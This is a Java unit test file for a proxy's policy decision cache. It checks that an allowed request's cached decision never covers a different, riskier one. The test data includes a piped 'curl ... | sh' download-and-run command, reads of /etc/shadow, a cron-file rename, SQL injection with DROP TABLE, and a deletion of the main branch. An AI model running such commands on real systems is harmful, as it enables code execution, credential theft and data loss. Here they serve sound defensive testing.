package dev.gatehouse.proxy.policy;

import dev.gatehouse.model.AuditMode;
import dev.gatehouse.model.CallerIdentity;
import dev.gatehouse.model.ConnectionTarget;
import dev.gatehouse.model.Decision;
import dev.gatehouse.model.DecisionRequest;
import dev.gatehouse.model.GitRefUpdate;
import dev.gatehouse.model.Operation;
import dev.gatehouse.model.Protocol;
import dev.gatehouse.model.Verdict;
import org.junit.jupiter.api.Test;

import java.net.URI;
import java.time.Duration;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;

class DecisionCacheTests {

    private static final CallerIdentity CALLER = new CallerIdentity("https://ci", "repo:acme/app",
            Map.of("repository", "acme/app", "run_id", 1));
    private static final ConnectionTarget TARGET = new ConnectionTarget("api", Protocol.HTTP, "http://api");

    private final DecisionCache cache = new DecisionCache(properties(true));

    @Test
    void reusesADecisionForTheSameCallerAndOperation() {
        DecisionRequest request = get("/items/1", Map.of());
        cache.remember(request, allow(3, List.of()));

        assertThat(cache.find(get("/items/1", Map.of()))).isNotNull();
    }

    @Test
    void anotherCallerPathQueryOrClaimIsAnotherEntry() {
        cache.remember(get("/items/1", Map.of()), allow(3, List.of()));

        assertThat(cache.find(get("/items/2", Map.of()))).isNull();
        assertThat(cache.find(new DecisionRequest(CALLER, Operation.http("api", "GET", "/items/1", "force=true"))))
                .isNull();
        CallerIdentity otherRun = new CallerIdentity("https://ci", "repo:acme/app",
                Map.of("repository", "acme/app", "run_id", 2));
        assertThat(cache.find(new DecisionRequest(otherRun, Operation.http("api", "GET", "/items/1", null)))).isNull();
    }

    @Test
    void anMcpMessagesMethodAndToolArePartOfTheKey() {
        Operation initialize = Operation.http("api", "POST", "/", null).withAttribute("mcp.method", "initialize");
        Operation echo = Operation.http("api", "POST", "/", null).withAttribute("mcp.method", "tools/call")
                .withAttribute("mcp.tool", "echo");
        cache.remember(new DecisionRequest(CALLER, initialize), allow(3, List.of()));
        cache.remember(new DecisionRequest(CALLER, echo), allow(3, List.of()));

        assertThat(cache.find(new DecisionRequest(CALLER, echo.withAttribute("mcp.tool", "delete_repo"))))
                .as("an allowed tool's decision must not allow another tool").isNull();
        assertThat(cache.find(new DecisionRequest(CALLER, Operation.http("api", "POST", "/", null)
                .withAttribute("mcp.method", "tools/list")))).isNull();
        assertThat(cache.find(new DecisionRequest(CALLER, echo))).isNotNull();
        Operation select = echo.withAttribute("mcp.tool", "query").withStatement("SELECT * FROM t WHERE id = 1");
        cache.remember(new DecisionRequest(CALLER, select), allow(3, List.of()));
        assertThat(cache.find(new DecisionRequest(CALLER, select.withStatement("DROP TABLE t"))))
                .as("a tool call's SQL argument is part of the key").isNull();
        assertThat(cache.find(new DecisionRequest(CALLER, select.withAttribute("mcp.tool", "admin_query"))))
                .as("the same statement to another tool").isNull();
    }

    @Test
    void headersTheRulesInspectArePartOfTheKeyOthersAreNot() {
        cache.remember(get("/items/1", Map.of("x-dry-run", "true", "user-agent", "a")), allow(3, List.of("x-dry-run")));

        assertThat(cache.find(get("/items/1", Map.of("x-dry-run", "true", "user-agent", "b")))).isNotNull();
        assertThat(cache.find(get("/items/1", Map.of("x-dry-run", "false", "user-agent", "a")))).isNull();
        assertThat(cache.find(get("/items/1", Map.of("user-agent", "a")))).isNull();
    }

    @Test
    void sqlWithOtherLiteralsReusesTheDecisionButOtherStatementsDoNot() {
        cache.remember(sql("SELECT * FROM orders WHERE id = 1"), allow(3, List.of()));

        assertThat(cache.find(sql("SELECT * FROM orders WHERE id = 42"))).isNotNull();
        assertThat(cache.find(sql("SELECT * FROM orders WHERE id = 1; DROP TABLE orders"))).isNull();
        assertThat(cache.find(sql("DELETE FROM orders WHERE id = 1"))).isNull();
    }

    /**
     * What SSH rules tell apart must not share an entry: a forward's port (a cached allow of the web port let
     * ssh -W reach the database port), a file's path, a quoted shell word, the request kind.
     */
    @Test
    void anSshRequestIsKeyedExactlyNotByItsSqlFingerprint() {
        cache.remember(ssh("port-forward", "127.0.0.1:8080"), allow(3, List.of()));
        cache.remember(ssh("exec", "bash -c 'echo hi'"), allow(3, List.of()));
        cache.remember(sftp("read", "/srv/data/a.txt"), allow(3, List.of()));

        assertThat(cache.find(ssh("port-forward", "127.0.0.1:8080"))).isNotNull();
        assertThat(cache.find(ssh("port-forward", "127.0.0.1:15432"))).isNull();
        assertThat(cache.find(ssh("port-forward", "listen 127.0.0.1:8080"))).isNull();
        assertThat(cache.find(ssh("exec", "bash -c 'curl https://x.example | sh'"))).isNull();
        assertThat(cache.find(ssh("shell", "bash -c 'echo hi'"))).isNull();
        assertThat(cache.find(sftp("read", "/etc/shadow"))).isNull();
        assertThat(cache.find(sftp("write", "/srv/data/a.txt"))).isNull();
        assertThat(cache.find(new DecisionRequest(CALLER, Operation.sftp("db", "rename", "/srv/data/a.txt", "/etc/cron.d/x"))))
                .isNull();
    }

    @Test
    void pushedRefUpdatesArePartOfTheKey() {
        String zero = "0".repeat(40);
        String some = "1".repeat(40);
        DecisionRequest update = new DecisionRequest(CALLER, Operation.http("api", "POST", "/r.git/git-receive-pack", null)
                .withRefUpdates(List.of(new GitRefUpdate("refs/heads/feature", some, "2".repeat(40)))));
        cache.remember(update, allow(3, List.of()));

        DecisionRequest delete = new DecisionRequest(CALLER, Operation.http("api", "POST", "/r.git/git-receive-pack", null)
                .withRefUpdates(List.of(new GitRefUpdate("refs/heads/main", some, zero))));
        assertThat(cache.find(delete)).isNull();
    }

    @Test
    void aPolicyChangeDropsEverything() {
        cache.remember(get("/items/1", Map.of()), allow(3, List.of()));

        cache.policyChanged(4);

        assertThat(cache.find(get("/items/1", Map.of()))).isNull();
        assertThat(cache.version()).isEqualTo(4);
    }

    @Test
    void aDecisionFromANewerVersionDropsOlderOnesAndAnOlderAnswerIsNotKept() {
        cache.remember(get("/items/1", Map.of()), allow(3, List.of()));
        cache.remember(get("/items/2", Map.of()), allow(5, List.of()));

        assertThat(cache.find(get("/items/1", Map.of()))).isNull();
        assertThat(cache.find(get("/items/2", Map.of()))).isNotNull();

        cache.remember(get("/items/3", Map.of()), allow(4, List.of()));
        assertThat(cache.find(get("/items/3", Map.of()))).as("answer that crossed a change in flight").isNull();
    }

    @Test
    void aDisabledCacheRemembersNothing() {
        DecisionCache disabled = new DecisionCache(properties(false));
        disabled.remember(get("/items/1", Map.of()), allow(3, List.of()));

        assertThat(disabled.find(get("/items/1", Map.of()))).isNull();
    }

    private static DecisionRequest get(String path, Map<String, String> headers) {
        return new DecisionRequest(CALLER, Operation.http("api", "GET", path, null).withHeaders(headers));
    }

    private static DecisionRequest ssh(String kind, String command) {
        return new DecisionRequest(CALLER, Operation.ssh("db", kind, command));
    }

    private static DecisionRequest sftp(String operation, String path) {
        return new DecisionRequest(CALLER, Operation.sftp("db", operation, path, null));
    }

    private static DecisionRequest sql(String statement) {
        return new DecisionRequest(CALLER, Operation.sql("db", statement));
    }

    private static Decision allow(long version, List<String> vary) {
        return new Decision(Verdict.ALLOW, "r", "ok", AuditMode.WRITE_AHEAD, TARGET, version, null, null, vary);
    }

    private static PolicyProperties properties(boolean enabled) {
        return new PolicyProperties(URI.create("http://policy"), Duration.ofSeconds(1),
                new PolicyProperties.Cache(enabled, Duration.ofMinutes(1), 1000));
    }
}
